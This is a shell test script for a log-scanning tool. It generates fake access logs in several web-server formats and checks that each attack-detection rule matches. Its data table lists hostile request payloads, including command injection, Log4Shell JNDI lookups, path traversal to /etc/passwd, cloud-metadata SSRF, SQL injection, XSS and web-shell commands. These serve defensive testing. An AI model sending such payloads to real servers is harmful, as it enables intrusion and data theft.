#!/bin/sh
# The same attacks in the access log of each kind of web server: each of our rules about requests finds them in all. A
# rule that asks for words as one server writes them (' 404 ', 'PUT /') would be blind to the others. HAProxy logs an
# agent only when it captures it, as here; it logs no referrer and no user.
set -u
: "${IR:?}" "${TMPDIR:?}"
. tests/lib.sh
mkdir "$TMPDIR/logs"
# RULE FILE | METHOD | TARGET (@N counts) | STATUS | USER AGENT | HOW OFTEN
cat >"$TMPDIR/attacks" <<'END'
basic_auth_guessing|GET|/private/|401|curl/8|10
cloud_metadata|GET|/fetch?u=http://169.254.169.254/latest/meta-data/|200|curl/8|1
command_injection|GET|/ping?h=192.0.2.1;cat%20/etc/hosts;/bin/sh|200|curl/8|1
framework_injection|GET|/index?class.module.classLoader.x=1|400|curl/8|1
hidden_archive|GET|/.old/.site.tar.gz|200|curl/8|1
log4shell|GET|/?x=%24%7bjndi:ldap://192.0.2.9/a%7d|404|curl/8|1
login_guessing|POST|/wp-login.php|200|curl/8|25
missing_pages|GET|/no-such-page-@N|404|curl/8|30
path_traversal|GET|/show?f=../../../../etc/passwd|200|curl/8|1
phpunit|POST|/vendor/phpunit/src/Util/PHP/eval-stdin.php|200|curl/8|1
scanner_user_agent|GET|/|200|Mozilla/5.0 (compatible) sqlmap/1.5|1
script_put|PUT|/files/x.php|201|curl/8|1
sensitive_file|GET|/.env|200|curl/8|1
sql_injection|GET|/item?id=1%20union%20select%20null,user%20from%20users|200|curl/8|1
web_shell_command|GET|/x.php?cmd=whoami|200|curl/8|1
web_shell_request|GET|/uploads/x.php|200|curl/8|1
wordpress_plugin|POST|/wp-admin/update.php?action=upload-plugin|200|curl/8|1
xss|GET|/?q=%3Cscript%3Ealert(1)%3C/script%3E|200|curl/8|1
END
awk -F '|' -v dir="$TMPDIR/logs" '
    function put(f, line) { print line >(dir "/" f ".log") }
    BEGIN { put("iis", "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Fields: date time s-ip " \
        "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status " \
        "sc-substatus sc-win32-status time-taken") }
    {
        for (n = 1; n <= $6; n++) {
            at = sprintf("05:%02d:%02d", t / 60, t % 60); t++
            to = $3; gsub(/@N/, n, to)
            user = $1 ~ /^basic/ ? "admin" : "-"
            put("apache", "203.0.113.1 - " user " [12/Nov/2026:" at " +0000] \"" $2 " " to " HTTP/1.1\" " $4 " 512 \"-\" \"" $5 "\"")
            put("nginx_line", "{\"time_local\":\"12/Nov/2026:" at " +0000\",\"remote_addr\":\"203.0.113.2\",\"remote_user\":\"" user \
                "\",\"request\":\"" $2 " " to " HTTP/1.1\",\"status\":\"" $4 "\",\"body_bytes_sent\":\"512\",\"http_user_agent\":\"" $5 "\"}")
            put("nginx_parts", "{\"time\": \"2026-11-12T" at "+00:00\", \"remote_addr\": \"203.0.113.3\", \"remote_user\": \"" user \
                "\", \"request_method\": \"" $2 "\", \"request_uri\": \"" to "\", \"status\": " $4 ", \"http_user_agent\": \"" $5 "\"}")
            put("caddy", "{\"level\":\"info\",\"ts\":\"2026-11-12T" at "Z\",\"logger\":\"http.log.access\",\"msg\":\"handled request\"," \
                "\"request\":{\"remote_ip\":\"203.0.113.4\",\"remote_port\":\"4021\",\"proto\":\"HTTP/2.0\",\"method\":\"" $2 "\",\"host\":" \
                "\"www.example.com\",\"uri\":\"" to "\",\"headers\":{\"User-Agent\":[\"" $5 "\"]}},\"user_id\":\"" user "\",\"status\":" $4 "}")
            put("traefik", "{\"ClientHost\":\"203.0.113.5\",\"ClientUsername\":\"" user "\",\"DownstreamStatus\":" $4 ",\"RequestMethod\":\"" \
                $2 "\",\"RequestPath\":\"" to "\",\"RequestProtocol\":\"HTTP/1.1\",\"request_User-Agent\":\"" $5 "\",\"time\":\"2026-11-12T" at "Z\"}")
            put("haproxy", "Nov 12 " at " lb haproxy[9]: 203.0.113.6:51000 [12/Nov/2026:" at ".123] web~ app/s1 0/0/1/2/3 " $4 \
                " 512 - - ---- 1/1/0/0/0 0/0 {" $5 "} \"" $2 " " to " HTTP/1.1\"")
            split(to, part, "?")
            agent = $5; gsub(/ /, "+", agent)
            put("iis", "2026-11-12 " at " 198.51.100.1 " $2 " " part[1] " " (part[2] == "" ? "-" : substr(to, length(part[1]) + 2)) \
                " 443 " user " 203.0.113.7 " agent " - " $4 " 0 " ($4 == 401 ? 1326 : 0) " 15")
        }
    }' "$TMPDIR/attacks"
"$IR" scan --no-default-rules --no-anomaly --rules rules --reference-time 2026-11-20T00:00:00Z --output jsonl --no-progress \
    "$TMPDIR/logs" 2>"$TMPDIR/err" >"$TMPDIR/findings"
jq -r 'select(."ir.kind" == "finding") | .rule.id as $id | .origin[].path | sub(".*/"; "") | sub("\\.log$"; "") | . + " " + $id' \
    "$TMPDIR/findings" | sort -u >"$TMPDIR/found"
cut -d '|' -f 1 "$TMPDIR/attacks" | while read -r rule; do
    sed -n "s/^id: */$rule /p" "rules/web/$rule.yml"
done >"$TMPDIR/ids"
for log in "$TMPDIR"/logs/*; do
    name=${log##*/}
    name=${name%.log}
    awk -v name="$name" 'NR == FNR { rule[$2] = $1; next } $1 == name && $2 in rule { print rule[$2] }' \
        "$TMPDIR/ids" "$TMPDIR/found" | sort -u >"$TMPDIR/got"
    while IFS='|' read -r rule _; do
        case $name/$rule in haproxy/basic_* | caddy/basic_*) continue ;; esac # they know no user who was refused
        ok "$name: $rule" grep -qx "$rule" "$TMPDIR/got"
    done <"$TMPDIR/attacks"
done
# others read error logs, which each server writes in its own words
grep -l 'category: webserver' rules/web/*.yml | while read -r rule; do basename "$rule" .yml; done | sort >"$TMPDIR/rules"
cut -d '|' -f 1 "$TMPDIR/attacks" | sort >"$TMPDIR/tried"
ok 'each rule file has an attack here' cmp "$TMPDIR/rules" "$TMPDIR/tried"
plan
